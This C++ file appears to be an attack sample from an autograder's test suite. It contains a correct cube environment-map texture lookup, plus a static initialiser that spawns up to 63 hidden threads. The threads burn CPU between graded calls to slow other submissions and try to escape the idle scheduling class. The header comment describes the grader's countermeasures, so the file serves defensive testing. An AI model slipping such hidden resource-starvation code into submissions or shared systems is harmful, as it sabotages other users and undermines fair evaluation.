// idle_spinner.cpp - issue 32 attack "classmates slowed and, once, zeroed":
// a correct lookup whose static initialiser starts 63 threads that spin
// whenever no call is in flight and sleep while one is (the per-call CPU limit
// only watches calls, and sees nothing), to slow every classmate graded
// beside it; each thread also tries now and then to leave the lowest priority
// (SCHED_OTHER) and says so once if it could. Verdict now: the grader stops
// the worker between calls (SIGSTOP), runs every thread but the main one at
// SCHED_IDLE (they cannot leave it: RLIMIT_NICE 0) and the whole worker in the
// grading's cpu cgroup, so the threads spin only inside its own calls, on CPU
// nothing else wants; it earns full marks and its classmates keep theirs, in
// about the control's time.
#include "EnvironmentMap.h"

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cmath>
#include <cstddef>
#include <sched.h>
#include <thread>
#include <unistd.h>

namespace {

std::atomic<int> callsInFlight{0};
std::atomic<bool> said{false};

void tryToLeaveIdle()
{
    const sched_param normal{0};
    if (sched_getscheduler(0) == SCHED_IDLE && sched_setscheduler(0, SCHED_OTHER, &normal) == 0
        && !said.exchange(true)) {
        static const char text[] = "left SCHED_IDLE\n";
        (void)!write(2, text, sizeof text - 1);
    }
}

const int spinners = [] {
    int started = 0;
    for (; started < 63; ++started) {
        try {
            std::thread([] {
                volatile unsigned long spins = 0;
                for (;;) {
                    if (callsInFlight.load(std::memory_order_relaxed) == 0) {
                        if (++spins % (1u << 20) == 0)
                            tryToLeaveIdle();
                    } else
                        std::this_thread::sleep_for(std::chrono::milliseconds(1));   // idle while asked
                }
            }).detach();
        } catch (...) {
            break;      // the task limit: as many as it allows
        }
    }
    return started;
}();

struct InCall
{
    InCall() { callsInFlight.fetch_add(1); }
    ~InCall() { callsInFlight.fetch_sub(1); }
};

struct FaceCoord
{
    int face;
    double u;
    double v;
};

// Where a direction meets the cube: the face and (u, v) of README.md's table.
FaceCoord directionToFace(const Vector3& d)
{
    const double ax = std::abs(d.x), ay = std::abs(d.y), az = std::abs(d.z);
    auto toUnit = [](double s, double m) { return (s / m + 1.0) / 2.0; };
    if (ax >= ay && ax >= az) {
        return d.x > 0 ? FaceCoord{FACE_POS_X, toUnit(d.z, ax), toUnit(d.y, ax)}
                       : FaceCoord{FACE_NEG_X, toUnit(-d.z, ax), toUnit(d.y, ax)};
    }
    if (ay >= az) {
        return d.y > 0 ? FaceCoord{FACE_POS_Y, toUnit(d.x, ay), toUnit(d.z, ay)}
                       : FaceCoord{FACE_NEG_Y, toUnit(d.x, ay), toUnit(-d.z, ay)};
    }
    return d.z > 0 ? FaceCoord{FACE_POS_Z, toUnit(d.x, az), toUnit(-d.y, az)}
                   : FaceCoord{FACE_NEG_Z, toUnit(d.x, az), toUnit(d.y, az)};
}

} // namespace

Color EnvironmentMap::fetchColor(const Vector3& direction) const
{
    const InCall call;
    const auto [face, u, v] = directionToFace(direction);
    return readTexture(faceAddress(face), u, v);
}

Color EnvironmentMap::readTexture(const float* addr, double u, double v) const
{
    const InCall call;
    const double px = u * m_FaceWidth;
    const double py = v * m_FaceHeight;
    const int ix = static_cast<int>(px);
    const int iy = static_cast<int>(py);
    const double alpha = px - ix;
    const double beta = py - iy;

    const auto texel = [&](int x, int y) -> Color {
        x = std::clamp(x, 0, m_FaceWidth - 1);
        y = std::clamp(y, 0, m_FaceHeight - 1);
        const float* t = addr + 3 * (static_cast<std::ptrdiff_t>(y) * m_FaceWidth + x);
        return {t[0], t[1], t[2]};
    };
    const Color c0 = (1.0 - alpha) * texel(ix, iy) + alpha * texel(ix + 1, iy);
    const Color c1 = (1.0 - alpha) * texel(ix, iy + 1) + alpha * texel(ix + 1, iy + 1);
    return (1.0 - beta) * c0 + beta * c1;
}
